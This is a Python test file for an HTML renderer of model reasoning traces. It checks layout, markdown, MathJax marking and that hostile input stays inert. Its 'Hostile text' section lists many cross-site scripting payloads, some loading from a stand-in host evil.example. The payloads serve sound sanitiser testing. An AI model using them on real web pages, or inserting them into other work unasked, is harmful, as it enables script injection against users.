@@ -1,0 +1,664 @@
+"""The static record: what it says and in which order, and that nothing hostile or unreadable gets into it."""
+
+from __future__ import annotations
+
+import json
+import re
+import string
+from html import unescape
+from html.parser import HTMLParser
+
+import pytest
+import traces
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from o1magic.render import html
+from o1magic.render.story import STOPS, clean, decimal, money, story
+from o1magic.trace import Trace
+from o1magic.types import StopReason
+
+VOID = {"br", "hr"}
+TAGS = {"b", "blockquote", "code", "details", "div", "em", "li", "ol", "p", "pre", "span", "strong", "summary", "table",
+        "tbody", "td", "th", "thead", "tr", "ul", *VOID}  # fmt: skip
+IGNORED = "mathjax_ignore tex2jax_ignore"
+
+_COLOUR = r"#[0-9a-f]{6}([0-9a-f]{2})?"
+_LENGTHS = r"((0|[0-9.]+(px|em))( |$)){1,4}"
+# Never wider than the same property in JupyterLab 4.6's sanitiser (apputils, sanitizer.ts), which drops all others.
+STYLES = {
+    "align-items": r"center|flex-end",
+    "background": _COLOUR,
+    "border": rf"0|1px solid {_COLOUR}",
+    "border-collapse": r"collapse",
+    "border-left": rf"3px solid {_COLOUR}",
+    "border-radius": r"\d+px",
+    "border-top": rf"1px solid {_COLOUR}",
+    "cursor": r"pointer",
+    "display": r"block|flex|inline-block",
+    "flex": r"1|1 1 \d+px|0 0 \d+em",
+    "flex-wrap": r"wrap",
+    "font-size": r"0|[0-9.]+em",
+    "font-weight": r"700",
+    "gap": r"\d+px( \d+px)?",
+    "height": r"\d+px",
+    "letter-spacing": r"[0-9.]+em",
+    "line-height": r"[0-9.]+",
+    "margin": _LENGTHS,
+    "margin-top": _LENGTHS,
+    "max-width": r"\d+px",
+    "min-width": r"0",
+    "opacity": r"[0-9.]+",
+    "overflow": r"hidden",
+    "overflow-x": r"auto",
+    "padding": _LENGTHS,
+    "padding-left": _LENGTHS,
+    "padding-top": _LENGTHS,
+    "text-align": r"left|right|center",
+    "text-overflow": r"ellipsis",
+    "text-transform": r"uppercase",
+    "white-space": r"nowrap|pre",
+    "width": r"\d+(px|%)",
+    "word-wrap": r"break-word",
+}
+
+
+class Reader(HTMLParser):
+    """Reads a record as a browser would, and fails on whatever is not in the fixed set."""
+
+    def __init__(self, source: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.open: list[tuple[str, str]] = []
+        self.strings = [""]
+        self.feed(source)
+        self.close()
+        assert self.open == []
+
+    def handle_starttag(self, tag, attrs):
+        assert tag in TAGS
+        for name, value in attrs:
+            match tag, name:
+                case _, "style":
+                    for declaration in value.split(";"):
+                        prop, _, setting = declaration.partition(":")
+                        assert re.fullmatch(STYLES[prop], setting), declaration
+                case "details", "open":
+                    assert value is None
+                case "span", "class":
+                    assert value == IGNORED
+                case "ol", "start":
+                    assert value.isdigit()
+                case _:
+                    pytest.fail(f"attribute {name}={value!r} on {tag}")
+        if tag not in VOID:
+            self.open.append((tag, dict(attrs).get("class", "")))
+        # A typesetter of mathematics joins text over line breaks, and over nothing else.
+        self.strings.append("") if tag != "br" else self.handle_data("\n")
+
+    def handle_endtag(self, tag):
+        assert self.open.pop()[0] == tag
+        self.strings.append("")
+
+    def handle_data(self, data):
+        if not any(tag in ("pre", "code") or cls for tag, cls in self.open):
+            self.strings[-1] += data
+
+    def unknown(self, *_):
+        pytest.fail("a comment, declaration or processing instruction")
+
+    handle_comment = handle_decl = handle_pi = unknown_decl = unknown
+
+    @property
+    def mathematics(self) -> list[str]:
+        """What MathJax, as JupyterLab and nbconvert configure it, would typeset."""
+        marks = r"\$\$.+?\$\$|\$[^$]+\$|\\\[.+?\\\]|\\\(.+?\\\)|\\begin\{(\w+)\}.*?\\end\{\1\}|\\(?:eq)?ref\{.*?\}"
+        return [match[0] for run in self.strings for match in re.finditer(marks, run, re.DOTALL)]
+
+
+def text_of(source: str) -> str:
+    return unescape(re.sub(r"<[^>]*>", " ", source))
+
+
+def record(trace: Trace) -> str:
+    source = html.record(trace)
+    Reader(source)
+    return source
+
+
+def solution(text: str, **config) -> str:
+    """The record of one chain that wrote this text."""
+    run = traces.Run("What?", strategy="chain", **config)
+    run.sample(text, "42")
+    return record(run.end())
+
+
+def mathematics(text: str) -> list[str]:
+    return Reader(solution(text)).mathematics
+
+
+# What it says.
+
+
+def test_answer_comes_first_then_why_then_steps_then_the_rest():
+    text = text_of(record(traces.pencils()))
+    order = [
+        "Answer",
+        "84 pencils",
+        "8 of 10",
+        "chains agree",
+        "posterior over the runner-up .97",
+        "a single chain said",
+        "19",
+        "self_consistency · local/qwen2.5-coder-0.5b · 10 of 64 calls · 1,000 of 64,000 tokens · $ 0 · 9.8 of 120 s",
+        "stopped: agreement",
+        "Steps of chain 2",
+        "Recognise",
+        "Verify by adding",
+        "7 more chains agree",
+        "Tried and dropped",
+        "1 other answer, 19, in 2 of 10 chains",
+        "chain 1 → 19",
+        "7 + 12 = 19 pencils",
+        "chain 7 → 19",
+        "Question",
+        "A school buys 7 boxes",
+        "n 16",
+        "seed 0",
+    ]
+    text = " ".join(text.split())
+    at = -1
+    for words in order:
+        at = text.find(words, at + 1)
+        assert at >= 0, words
+
+
+def test_votes_are_drawn_as_pips_and_bars_in_the_order_of_the_answers():
+    source = record(traces.pencils())
+    pips = re.findall(r'width:20px;height:6px;[^"]*background:(#\w+)"', source)
+    assert pips == [html.ACCENT] * 8 + [html.OTHER] * 2
+    bars = re.findall(r'width:(\d+)%;height:6px;[^"]*background:(#\w+)"', source)
+    assert bars == [("100", html.ACCENT), ("25", html.OTHER)]
+
+
+def test_many_votes_are_bars_alone_and_many_answers_are_summed_up():
+    run = traces.Run()
+    for i in range(40):
+        run.sample(f"Answer: {i % 9}", str(i % 9))
+    source = record(run.end())
+    assert "width:20px;height:6px" not in source
+    assert source.count("%;height:6px") == html.MOST_ROWS
+    assert "3 more answers in 12 chains" in source
+
+
+def test_less_than_half_of_the_votes_is_no_agreement():
+    source = record(traces.no_agreement())
+    assert "<b>26</b> leads with <b>3 of 8</b>" in source
+    assert "No agreement" in source
+    assert ">Answer<" not in source
+
+
+def test_half_of_the_votes_is_an_answer_and_a_broken_tie_is_told():
+    run = traces.Run()
+    for answer in ("84", "19"):
+        run.sample(f"Answer: {answer}", answer)
+    told = story(run.end())
+    assert told.label == "Answer"
+    assert "A tie between 19 and 84 had to be broken" in told.notes
+
+
+def test_answers_that_nobody_shares_are_no_agreement_and_not_compared():
+    run = traces.Run()
+    for answer in ("1", "2", "3"):
+        run.sample(f"Answer: {answer}", answer)
+    told = story(run.end())
+    assert (told.label, told.verdict, told.leader, told.compared) == (
+        "No agreement",
+        "no two of 3 chains agree",
+        None,
+        False,
+    )
+
+
+def test_a_check_decides_against_the_majority_and_says_so():
+    source = record(traces.checked())
+    assert re.search(r">-2</div>.*<b>passes the check</b>, said by <b>1 of 4</b> chains", source)
+    assert "stopped: check passed" in text_of(source).replace("\u00a0", " ")
+
+
+@pytest.mark.parametrize(
+    ("value", "words", "label"),
+    [
+        (1.0, "passes the check", "Answer"),
+        (0.25, "scored .25 by the check", "Answer"),
+        (0.0, "does not pass the check", "No agreement"),
+    ],
+)
+def test_what_the_check_said(value, words, label):
+    run = traces.Run(strategy="best_of_n", check="f")
+    for answer in ("1", "2", "3"):
+        run.score(run.sample(f"Answer: {answer}", answer), "check", value)
+    told = story(run.end(rule=traces.weighted))
+    assert (told.decided, told.label) == (words, label)
+
+
+def test_a_scorer_that_decided_is_named_with_its_score_and_a_long_answer_is_no_headline():
+    source = record(traces.judged())
+    assert "<b>chosen by judge, .91</b>" in source
+    assert "font-size:2.1em" not in source
+    assert source.index("Air molecules") < source.index("chosen by judge")
+
+
+def test_a_code_answer_is_a_block_of_code():
+    source = record(traces.coded())
+    block = re.search(r'<pre style="[^"]*white-space:pre">(.*?)</pre>', source, re.DOTALL)
+    assert unescape(block[1]) == traces.CODE
+
+
+def test_without_an_answer_it_says_so_and_shows_what_text_there_is():
+    text = " ".join(text_of(record(traces.out_of_time())).split())
+    assert text.startswith("No answer chain · ")
+    assert "9.8 of 10 s · stopped: time limit" in text
+    assert "Steps of chain 1, as far as it came" in text
+    assert "adds twelve, so 12 + 12" in text
+
+
+def test_failed_cut_and_answerless_chains_are_told_apart():
+    text = text_of(record(traces.failures()))
+    assert "1 chain failed; 2 chains without an answer" in text
+    assert "chain 5 failed: openai/gpt-4o at api.openai.com asked to wait" in text
+    assert "chain 6 cut off at the token limit" in text
+    assert "chain 7 no answer found" in text
+    assert "1 other answer, 19, in 1 of 3 chains; 1 chain cut off" in text_of(record(traces.stopped()))
+
+
+def test_a_failed_run_shows_its_error():
+    run = traces.Run(strategy="chain")
+    run.fail(run.start(), "no key")
+    text = text_of(record(run.end(None, error="AuthenticationError: no key; set OPENAI_API_KEY")))
+    assert text.split()[0] == "Failed"
+    assert "set OPENAI_API_KEY" in text
+
+
+def test_a_resumed_run_says_so_and_counts_what_was_paid():
+    told = story(traces.resumed())
+    assert "Goes on from an earlier run that ended early (time limit)" in told.notes
+    assert "4 of 64 calls, 3 cached" in told.facts
+    assert "$0.002" in told.facts
+
+
+@pytest.mark.parametrize(
+    ("make", "cost"), [(traces.pencils, "$0"), (traces.failures, "$0.0063 of $1"), (traces.stopped, "cost unknown")]
+)
+def test_cost(make, cost):
+    assert cost in story(make()).facts
+
+
+def test_lifted_limits_are_left_out():
+    run = traces.Run(limits=traces.Limits(calls=None, tokens=None, cost=None, seconds=None))
+    run.sample("Answer: 1", "1", cost=0.5)
+    assert story(run.end()).facts[2:6] == ("1 calls", "100 tokens", "$0.50", "9.8 s")
+
+
+def test_the_first_chain_is_compared():
+    assert story(traces.pencils()).single == ("a single chain said", "19")
+    assert story(traces.stopped()).single == ("a single chain said", "the same")
+    run = traces.Run()
+    run.fail(run.start(), "429")
+    run.sample("Answer: 1", "1")
+    assert story(run.end()).single == ("a single chain", "failed")
+
+
+def test_equal_answers_in_other_words_are_one_group():
+    run = traces.Run()
+    run.sample("Answer: 0.5", "0.5")
+    run.sample("Answer: 1/2", "1/2")
+    run.emit("same_answer", a="0.5", b="1/2")
+    told = story(run.end())
+    assert told.verdict == "2 of 2 chains agree"
+    assert told.dropped == ()
+
+
+def test_every_stop_reason_has_words():
+    assert set(STOPS) == set(StopReason.__args__)
+
+
+def test_a_chain_that_fits_a_glance_is_open_and_a_longer_one_an_outline():
+    short = record(traces.pencils())
+    assert short.count("<details open") == 4
+    run = traces.Run(strategy="chain")
+    run.sample("\n\n".join(f"Step {i}: Part {i}\n{'word ' * 100}" for i in (1, 2, 3)), "1")
+    assert "<details open" not in record(run.end())
+
+
+def test_a_title_that_only_repeats_the_first_words_is_not_shown_twice():
+    assert text_of(record(traces.no_agreement())).count("Their sum is 26.") == 1 + 2
+
+
+def test_reasoning_of_the_provider_is_kept_apart():
+    run = traces.Run(strategy="chain")
+    run.sample("Answer: 1", "1", reasoning="I pondered.")
+    assert re.search(
+        r"<details style[^>]*><summary[^>]*><b>Reasoning, as the provider sums it up.*I pondered", record(run.end())
+    )
+
+
+def test_a_run_that_is_not_over_can_be_shown():
+    run = traces.Run()
+    run.sample("Answer: 1", "1")
+    run.start(text="Step 1: Think\nHm")
+    source = record(run.trace)
+    assert source.count("Thinking") == 1
+    assert record(Trace())
+
+
+@pytest.mark.parametrize("make", traces.EXAMPLES.values(), ids=traces.EXAMPLES)
+def test_examples_survive_the_sanitiser_and_the_stored_form(make):
+    trace = make()
+    source = record(trace)
+    assert "var(" not in source
+    assert html.record(Trace.from_json(json.loads(json.dumps(trace.to_json())))) == source
+
+
+# Markdown.
+
+
+def test_markdown_becomes_elements():
+    source = solution(
+        "# Title\n\nSome *slanted* and **strong** `code_x`.\nNext line.\n\n- one\n- two\n\n3. three\n\n> said\n\n"
+        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx = '<b>'\n```\n\nEnd."
+    )
+    for part in (
+        "<em>slanted</em> and <strong>strong</strong>",
+        ">code_x</code>",
+        "Next line.",
+        '<ol start="3"',
+        "<blockquote",
+        "text-align:right",
+        "x = '&lt;b&gt;'\n</pre>",
+    ):
+        assert part in source
+
+
+def test_a_line_break_of_the_model_is_a_line_break():
+    assert re.search(r"one<br ?/?>\s*two", solution("one\ntwo"))
+
+
+def test_headings_do_not_join_the_outline_of_the_notebook():
+    assert not re.search("<h[1-6]", solution("Intro\n\nText\n===\n\n###### Six\n\nMore"))
+
+
+def test_links_and_pictures_lead_nowhere():
+    source = solution(
+        "See [the page](https://example.org/a_b) ![dot](https://example.org/dot.png) <https://auto.example>"
+    )
+    assert "the page (https://example.org/a_b)" in source
+    assert "<a" not in source
+    assert "<img" not in source
+
+
+# Mathematics.
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("So $x_1 * y_2 * z$ and _so_ on.", [r"\(x_1 * y_2 * z\)"]),
+        (r"So \(a_1\) and \[b_1 \\ c_1\].", [r"\(a_1\)", r"\[b_1 \\ c_1\]"]),
+        ("Display $$a^2 + b^2$$ within.", [r"\[a^2 + b^2\]"]),
+        ("$$\na\n- b\n= c\n$$", ["\\[a\n- b\n= c\\]"]),
+        ("\\[\n\\begin{x}\na &= b \\\\\n  &= c\n\\end{x}\n\\].", ["\\[\\begin{x}\na &= b \\\\\n&= c\n\\end{x}.\\]"]),
+        ("- item\n  \\[\n  x\n  + y\n  \\]\n- next", ["\\[x\n+ y\\]"]),
+        ("> \\[ q \\]", [r"\[q\]"]),
+        ("$a < b$ and $c > d$ & $e$", [r"\(a < b\)", r"\(c > d\)", r"\(e\)"]),
+        (r"$\text{if } x$", [r"\(\text{if } x\)"]),
+        (r"$\frac{\text{some more words}}{2}$", [r"\(\frac{\text{some more words}}{2}\)"]),
+        ("**Title $n$**", [r"\(n\)"]),
+        ("# Heading $h$\n\ntext", [r"\(h\)"]),
+        ("It costs $5 and $6.", []),
+        ("From $5-$6, US$7 or US$8, 5$ or 6$.", []),
+        ("He pays $20 (about 15 pounds) and gets 5$ back.", []),
+        (r"\$5 and \$6 and $x$", [r"\(x\)"]),
+        ("An open $x = 5", []),
+        (r"An open \( x = 5 and \[ y", []),
+        ("$$", []),
+        ("$$$$ and $ $ and $$ $$", []),
+        ("`$x$` and `\\(y\\)`", []),
+        ("```\n$x$ \\[y\\]\n```", []),
+        (r"\\(x\\) is a literal backslash", []),
+        (r"\begin{equation}x\end{equation} \ref{a}", []),
+        (r"$\href{javascript:alert(1)}{x}$ $\gdef\frac{1}$ \(\def\x{}\) \[\require{html}\]", []),
+        (r"$a \) b$", []),
+        ("&#36;x&#36; and &dollar;y&dollar;", []),
+        ("$a\n\nb$", []),
+    ],
+)  # fmt: skip
+def test_mathematics_is_marked_for_the_host_and_every_other_dollar_kept_from_it(text, expected):
+    assert mathematics(text) == expected
+
+
+def test_hostile_mathematics_is_shown_as_code():
+    assert r">\href{javascript:alert(1)}{x}</code>" in solution(r"$\href{javascript:alert(1)}{x}$")
+
+
+@pytest.mark.parametrize(
+    ("answer", "shown"),
+    [
+        (r"\frac{1}{2}", r"\(\frac{1}{2}\)"),
+        (r"$\frac{1}{2}$ m", r"\(\frac{1}{2}\) m"),
+        ("2*3*4", "2*3*4"),
+        ("snake_case_name", "snake_case_name"),
+        ("a < b", "a &lt; b"),
+    ],
+)
+def test_short_answers_are_literal_but_for_mathematics(answer, shown):
+    run = traces.Run(strategy="chain")
+    run.sample("So.", answer)
+    assert f'font-weight:700;line-height:1.25">{shown}</div>' in record(run.end())
+
+
+def test_a_price_or_a_path_as_the_answer_is_not_typeset():
+    for answer in ("$5", "C:\\Users\\me", "between $5 and $6"):
+        run = traces.Run(strategy="chain")
+        run.sample("So.", answer)
+        source = record(run.end())
+        assert Reader(source).mathematics == []
+        assert answer in re.sub(r"<[^>]*>", "", source)
+
+
+# Hostile text.
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror=alert`1`>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data='data:text/html,<script>alert(1)</script>'>",
+    "<embed src=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<button formaction=javascript:alert(1)>x",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style>body{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>",
+    "<!--<script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "</div></details><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    '" onmouseover=alert(1) x="',
+    "' style='position:fixed",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&amp;lt;script&amp;gt;",
+    "[x](javascript:alert(1))",
+    '[x](JaVaScRiPt:alert(1) "t")',
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "![x](javascript:alert(1))",
+    '![x" onerror="alert(1)](https://e.example)',
+    '[x](https://e.example/"onmouseover=alert(1))',
+    "<javascript:alert(1)>",
+    '<https://e.example/"onmouseover=alert(1)>',
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "# <script>alert(1)</script>",
+    "> <script>alert(1)</script>",
+    "- <script>alert(1)</script>",
+    "$<script>alert(1)</script>$",
+    "$$</script><script>alert(1)</script>$$",
+    "\\(<img src=x onerror=alert(1)>\\)",
+    "\\[\n<img src=x onerror=alert(1)>\n\\]",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$\\style{position:fixed}{x}$ $\\class{evil}{x}$ $\\cssId{evil}{x}$",
+    "$\\unicode{x3c}script$",
+    "\x1b]0;title\x07\x1b[2J\x00<script>alert(1)</script>",
+    "\u202e<script>alert(1)</script>",
+    "\ud800<script>\udfff",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<a class='jp-button' data-commandlinker-command=x>",
+    "<span class=mathjax_process>$x$</span>",
+    "{{7*7}} {% raw %} ${7*7}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_text_stays_text_wherever_it_comes_from(payload):
+    run = traces.Run(payload, system=payload, api_base=payload, check=payload, params={payload: payload})
+    run.sample(f"Step 1: {payload}\n{payload}\n\n{payload}", payload, reasoning=payload)
+    run.sample(payload, f"{payload} 2")
+    run.sample(payload, None)
+    run.fail(run.start(), payload)
+    run.emit("note", text=payload)
+    source = record(run.end(error=payload))
+    assert "href" not in re.findall(r"<[^>]*>", source)
+    source.encode()
+
+
+def test_hostile_text_in_every_kind_of_answer():
+    assert record(traces.hostile(PAYLOADS))
+    for payload in PAYLOADS:
+        for kind in ("code", "text"):
+            run = traces.Run(answer=kind)
+            run.sample(payload, payload * 9)
+            assert record(run.end())
+
+
+def test_terminal_and_bidirectional_controls_are_replaced():
+    assert clean("a\x1b[2Jb\u202ec\ud800d\r\ne\tf\x85") == "a\ufffd[2Jb\ufffdc\ufffdd\ne\tf\ufffd"
+
+
+MARKS = ["$", "$$", "\\(", "\\)", "\\[", "\\]", "\\", "`", "```", "|", "* ", "_", "# ", "> ", "- ", "1. ", "\n", "\n\n"]
+FRAGMENTS = st.sampled_from([*PAYLOADS, *MARKS])
+TEXTS = st.one_of(
+    st.text(),
+    st.text(alphabet=string.printable, max_size=200),
+    st.lists(st.one_of(FRAGMENTS, st.text(max_size=5)), max_size=30).map("".join),
+)
+
+
+@given(TEXTS, st.one_of(st.none(), TEXTS))
+@settings(deadline=None, max_examples=300)
+def test_no_text_breaks_out_or_raises(text, answer):
+    run = traces.Run(text)
+    run.sample(text, answer)
+    run.sample("Answer: 1", "1")
+    run.fail(run.start(), text)
+    record(run.end())
+
+
+@given(st.text(alphabet="$5a \n.,*_`\\()[]{}"))
+@settings(deadline=None, max_examples=300)
+def test_whatever_the_host_typesets_was_marked_by_us(text):
+    for found in mathematics(text):
+        assert found.startswith(("\\(", "\\["))
+
+
+# Size and colours.
+
+
+def test_the_size_of_a_long_run_is_bounded_and_grows_with_text_alone():
+    def size(nodes, length):
+        run = traces.Run()
+        for i in range(nodes):
+            run.sample("x" * length, str(i % 3))
+        return len(record(run.end()).encode())
+
+    run = traces.Run()
+    for i in range(50):
+        run.sample(traces.PENCILS, str(i % 7), "84 pencils")
+    assert len(record(run.end()).encode()) < 60_000
+    assert size(60, 100) - size(50, 100) < 10 * 500
+    assert abs(size(50, 600) - size(50, 100) - 50 * 500) < 2_000
+
+
+def _luminance(colour: tuple[float, ...]) -> float:
+    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in colour]
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+
+def _contrast(a: tuple[float, ...], b: tuple[float, ...]) -> float:
+    high, low = sorted((_luminance(a), _luminance(b)), reverse=True)
+    return (high + 0.05) / (low + 0.05)
+
+
+def test_marks_and_dim_text_are_visible_on_light_and_dark_grounds():
+    """WCAG 2.2 AA: 3 : 1 for marks, 4.5 : 1 for text."""
+    opacity = float(html.DIM.removeprefix("opacity:"))
+    for ground, ink in (((1.0,) * 3, 0.13), ((0x11 / 255,) * 3, 1.0)):
+        for mark in (html.ACCENT, html.OTHER):
+            colour = tuple(int(mark[i : i + 2], 16) / 255 for i in (1, 3, 5))
+            assert _contrast(colour, ground) >= 3
+        dim = tuple(opacity * ink + (1 - opacity) * g for g in ground)
+        assert _contrast(dim, ground) >= 4.5
+
+
+# Numbers.
+
+
+@pytest.mark.parametrize(
+    ("value", "words"), [(0, "0"), (0.001, ".01"), (0.5, ".50"), (0.967, ".97"), (0.999, ".99"), (1.0, "1")]
+)
+def test_decimal(value, words):
+    assert decimal(value) == words
+
+
+@pytest.mark.parametrize(
+    ("value", "words"),
+    [(0, "$0"), (1, "$1"), (0.5, "$0.50"), (1234.5, "$1,234.50"), (0.0042, "$0.0042"), (4e-7, "under $0.000001")],
+)
+def test_money(value, words):
+    assert money(value) == words
+
+
+def test_rendering_needs_no_styles_to_be_read_in_order():
+    """A host that strips styles still shows each part on a line of its own."""
+    source = record(traces.pencils())
+    lines = [
+        " ".join(unescape(re.sub(r"<[^>]*>", "", line)).split())
+        for line in re.split(r"</?(?:div|p|summary)[^>]*>", source)
+    ]
+    lines = [line for line in lines if line]
+    assert lines[:4] == [
+        "Answer",
+        "84 pencils",
+        "8 of 10 chains agree posterior over the runner-up .97",
+        "a single chain said 19",
+    ]
